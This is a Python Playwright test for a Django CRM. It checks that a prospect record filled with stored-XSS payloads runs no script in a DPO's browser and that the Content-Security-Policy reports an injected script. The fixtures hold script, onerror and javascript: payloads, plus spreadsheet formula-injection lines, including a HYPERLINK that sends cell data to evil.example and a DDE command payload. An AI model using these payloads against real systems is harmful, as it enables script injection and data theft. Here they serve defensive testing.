"""The stored-XSS attack in a real browser: the DPO opens a prospect an attacker filled in.

Every text value of the record holds markup or script, and its profile URL is a
``javascript:`` URL written straight to the database (as a row stored before the
URL rules would be). The DPO opens the prospect page and clicks every link on it,
coming back after each one. No script of the attacker's runs (no dialog, no
marker set), no link leads to ``javascript:``, and the Content-Security-Policy
is never violated: neither the browser's violation events nor the report endpoint
hear of anything, although a violation provoked at the end is heard by both.
"""

import pytest
from django.utils import timezone
from playwright.sync_api import expect

from prospects.models import Prospect
from socialcrm.views import csp_reports_received
from tests.browser.conftest import TIMEOUT_MS, login, screenshot
from tests.factories import EmployeeFactory, SocialAccountFactory

pytestmark = pytest.mark.browser

MARKER = "window.__xss"
HOSTILE_URL = "javascript:window.__xss='profile_url'//https://www.linkedin.com/in/jane"
HOSTILE = {
    "full_name": "<script>window.__xss='full_name'</script>Jane",
    "company": '"><img src=x onerror="window.__xss=\'company\'">',
    "job_title": "'><svg onload=alert('job_title')>",
    "email": '"><script>alert(1)</script>@example.com',
    "phone": "<iframe src=javascript:alert('phone')>",
    "source": "<img src=x onerror=alert(1)>",
    "notes": (
        '=HYPERLINK("https://evil.example/?d="&A1,"Open")\n'
        "+cmd|' /C calc'!A0\n"
        "<a href=\"javascript:alert('notes')\">notes</a><style>body{display:none}</style>"
    ),
}
# Reports the page itself records, whatever reaches the server: expose_function survives
# navigations, the listener is installed before any script of the page runs.
LISTEN = """
document.addEventListener("securitypolicyviolation", (event) => {
  window.__cspViolation(event.violatedDirective + " " + event.blockedURI);
});
"""


@pytest.fixture
def hostile_prospect(db):
    owner = EmployeeFactory(role="rep", compliant=True)
    account = SocialAccountFactory(
        employee=owner, network="linkedin", handle="<script>window.__xss='handle'</script>"
    )
    prospect = Prospect(
        owner=owner,
        social_account=account,
        network="linkedin",
        kind="b2b",
        provenance="employment",
        lawful_basis="legitimate_interest",
        collected_at=timezone.now(),
        profile_url=HOSTILE_URL,
        **HOSTILE,
    )
    # Saved as it is, around every check: what an older row or a bypass would hold.
    prospect.save()
    return prospect


def _wait_for(condition, page) -> None:
    """Until ``condition()`` holds (a report is sent after the page moved on), at most the timeout."""
    for _ in range(TIMEOUT_MS // 100):
        if condition():
            return
        page.wait_for_timeout(100)


# It injects a script at the end to prove the reports are heard.
@pytest.mark.csp_violation_expected
def test_the_dpo_clicks_every_link_of_a_hostile_prospect_and_nothing_runs(
    page, live_server, hostile_prospect
):
    dpo = EmployeeFactory(role="dpo")
    dialogs, violations = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.expose_function("__cspViolation", lambda report: violations.append(report))
    page.add_init_script(LISTEN)
    reports_before = csp_reports_received()

    login(page, live_server, dpo.user.username)
    prospect_url = f"{live_server.url}/prospects/{hostile_prospect.pk}/"
    page.goto(prospect_url)
    main = page.locator("main")
    expect(page.locator("h1")).to_have_text(HOSTILE["full_name"])
    expect(main).to_contain_text(HOSTILE["company"])
    expect(main).to_contain_text(HOSTILE_URL)  # shown as text, not as a link
    expect(main).to_contain_text(HOSTILE["email"])  # not an address: text, no mailto: link
    expect(page.locator("a[href^='javascript' i], a[href^='mailto' i]")).to_have_count(0)
    screenshot(page, "hostile-prospect-as-dpo")

    links = page.locator("a[href]")
    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
    assert len(hrefs) > 5
    for index, href in enumerate(hrefs):
        page.goto(prospect_url)
        link = page.locator("a[href]").nth(index)
        assert link.get_attribute("href") == href
        # Focused first, as a keyboard user reaches it: the skip link shows only then.
        link.focus()
        link.click()
        # Until the page has fetched what it needs (the API docs draw from the schema).
        page.wait_for_load_state("networkidle")
        assert page.url.startswith(live_server.url), href
        assert page.evaluate(f"typeof {MARKER}") == "undefined", href
        page.go_back()
        page.wait_for_load_state("load")
        assert page.evaluate(f"typeof {MARKER}") == "undefined", href

    assert dialogs == []
    assert violations == []
    assert csp_reports_received() == reports_before

    # The listeners and the endpoint do hear a violation: an inline script injected now.
    page.goto(prospect_url)
    page.evaluate(
        "() => { const s = document.createElement('script');"
        " s.textContent = \"window.__xss = 'injected'\"; document.body.append(s); }"
    )
    assert page.evaluate(f"typeof {MARKER}") == "undefined"
    _wait_for(lambda: csp_reports_received() > reports_before, page)
    assert violations and violations[0].startswith("script-src")
    assert csp_reports_received() == reports_before + 1
    assert dialogs == []
